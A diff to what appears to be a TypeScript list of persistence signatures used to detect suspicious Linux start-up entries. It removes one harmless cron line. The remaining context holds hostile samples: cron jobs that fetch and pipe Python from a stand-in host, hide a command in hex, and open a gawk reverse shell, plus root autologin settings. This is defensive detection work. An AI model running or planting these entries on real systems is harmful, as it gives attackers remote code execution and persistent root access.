@@ -22,7 +22,6 @@ export const rarerStartUp: readonly Sign[] = [
 	file('sysext', 'start-up', 'an extension laid over /usr at boot', '/var/lib/extensions/net.raw', elf('x')),
 	file('inittab-autologin', 'start-up', 'root logged in by init', '/etc/inittab', '1:2345:respawn:/sbin/agetty -a root tty1\n'),
 	file('gdm-root', 'start-up', 'root logged in by the display manager', '/etc/gdm3/daemon.conf', '[daemon]\nAutomaticLoginEnable=true\nAutomaticLogin=root\n'),
-	file('cron-link', 'start-up', 'a job in a link to a temporary place', '/etc/cron.d/sysupd', '* * * * * root /usr/bin/true\n'),
 	file('cron-python', 'start-up', 'Python fetched by cron', '/etc/cron.d/p1', '*/9 * * * * root curl -s https://203.0.113.9/a.py | python3 -\n'),
 	file('cron-hex', 'start-up', 'a command in hexadecimal', '/etc/cron.d/p2', '*/9 * * * * root $(echo 6375726c20 | xxd -r -p)\n'),
 	file('cron-awk', 'start-up', 'a shell by gawk', '/etc/cron.d/p3', '1 * * * * root gawk \'BEGIN{s="/inet/tcp/0/203.0.113.9/443";while(1){s|&getline c;while((c|&getline l)>0)print l|&s}}\'\n'),
